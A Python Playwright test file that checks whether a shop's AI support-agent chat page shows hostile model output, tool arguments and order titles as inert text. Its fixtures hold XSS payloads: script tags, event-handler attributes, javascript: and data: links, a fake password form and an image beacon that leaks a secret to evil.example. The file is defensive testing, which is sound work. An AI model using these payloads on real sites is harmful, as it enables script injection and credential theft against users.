"""Hostile words of models and tools on the chat page: they are shown, and do nothing."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from amoxi_py.testing import call, reply

pytestmark = pytest.mark.xdist_group("browser")  # one browser at a time on a small machine

HOSTILE = """
<script>window.PWNED = 1</script> <img src=x onerror="window.PWNED = 2"> <svg onload="window.PWNED = 3"></svg>
<style>body { display: none }</style> <div style="position: fixed; inset: 0">over all</div>
<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
<iframe src="https://evil.example/"></iframe> <meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"> <a href="javascript:window.PWNED = 4" id="raw">raw link</a>

[js](javascript:window.PWNED=5) [coded](&#106;avascript:window.PWNED=6) [tab](java\tscript:window.PWNED=7)
[data](data:text/html,<script>window.PWNED=8</script>) [vb](vbscript:x) [quote](https://a.example/"onmouseover="x)
![picture](https://evil.example/leak.png?secret=1) ![js picture](javascript:window.PWNED=9)
[good](https://good.example/page) <https://auto.example/> [relative](/support-agent)

```html" onload="window.PWNED=10
<script>window.PWNED = 11</script>
```

<details open ontoggle="window.PWNED = 12"><summary>x</summary></details> <math><mtext></mtext></math>
<a href="#" class="primary" data-message="x">looks like ours</a> <button>Approve</button>
"""


def test_hostile_markdown_is_shown_and_does_nothing(shop_model: Any, open_page: Any) -> None:
    server = shop_model({"attack": [reply(*[HOSTILE[at : at + 40] for at in range(0, len(HOSTILE), 40)])]})
    chat = open_page(f"{server.url}/support-agent")
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    chat.say("attack")
    expect(chat.status).to_have_text("")
    answer = chat.answers.locator(".text")
    expect(answer).to_contain_text("looks like ours")
    expect(answer).to_contain_text("<script>window.PWNED = 1</script>")
    tags = answer.evaluate("(it) => [...new Set([...it.querySelectorAll('*')].map((each) => each.localName))].sort()")
    assert set(tags) <= {"a", "br", "code", "p", "pre"}, tags
    names = answer.evaluate("(it) => [...it.querySelectorAll('*')].flatMap((each) => each.getAttributeNames())")
    assert set(names) <= {"href", "rel", "target", "tabindex"}
    links = answer.locator("a").evaluate_all("(all) => all.map((it) => [it.getAttribute('href'), it.rel, it.target])")
    assert {href.partition(":")[0] for href, _, _ in links} <= {"https", "/support-agent"}
    assert {(rel, target) for _, rel, target in links} == {("noopener noreferrer nofollow", "_blank")}
    assert "https://good.example/page" in [href for href, _, _ in links]
    assert chat.page.evaluate("window.PWNED") is None
    assert [url for url in asked if not url.startswith(server.url)] == []
    assert chat.page.url.partition("#")[0] == f"{server.url}/support-agent"
    expect(chat.button("Approve")).to_have_count(0)
    chat.shot("hostile")
    assert chat.complaints == [], "nothing even reached the policy"


def test_good_markdown_is_rendered(shop_model: Any, open_page: Any) -> None:
    good = (
        "# Title\n\nSome **bold**, *soft* and `code`.\n\n- one\n- two\n\n1. first\n\n> quoted\n\n"
        "| order | state |\n|---|---|\n| A-1001 | shipped |\n\n```python\nprint('<b>')\n```\n\nline one\nline two\n"
    )
    chat = open_page(f"{shop_model({'show': [good]}).url}/support-agent")
    chat.say("show")
    expect(chat.status).to_have_text("")
    for tag, text in [("h3", "Title"), ("strong", "bold"), ("em", "soft"), ("ul li", "one"), ("ol li", "first")]:
        expect(chat.answers.locator(tag).first).to_have_text(text)
    expect(chat.answers.locator("td").last).to_have_text("shipped")
    expect(chat.answers.locator("pre")).to_contain_text("print('<b>')")
    expect(chat.answers.locator("p br")).to_have_count(1)
    chat.shot("markdown")
    assert chat.complaints == []


def test_hostile_results_arguments_messages_and_titles_are_text(shop_model: Any, folder: Path, open_page: Any) -> None:
    attack = '<img src=x onerror="window.PWNED=1"><script>window.PWNED=2</script>'
    orders = folder / "app" / "orders.py"
    orders.write_text(orders.read_text("utf-8").replace("Trail backpack, 28 L", attack.replace('"', "'")), "utf-8")
    script = {
        attack: [
            reply(call("lookup_order", order_id="A-1001")),
            reply(call("cancel_order", order_id=attack)),
            reply(call("cancel_order", order_id="A-1002")),
        ]
    }
    chat = open_page(f"{shop_model(script).url}/support-agent")
    chat.say(attack)
    expect(chat.button("Approve")).to_be_visible()
    expect(chat.page.locator(".message.user")).to_have_text(attack)
    chat.calls.first.get_by_text("Result").click()
    expect(chat.calls.first.locator("pre")).to_contain_text("<img src=x onerror='window.PWNED=1'>")
    expect(chat.calls.nth(1)).to_contain_text(attack)
    expect(chat.page.locator(".side li")).to_contain_text("<img src=x")
    expect(chat.page.locator(".amoxi-chat img")).to_have_count(0)
    assert chat.page.evaluate("window.PWNED") is None
    assert chat.complaints == []
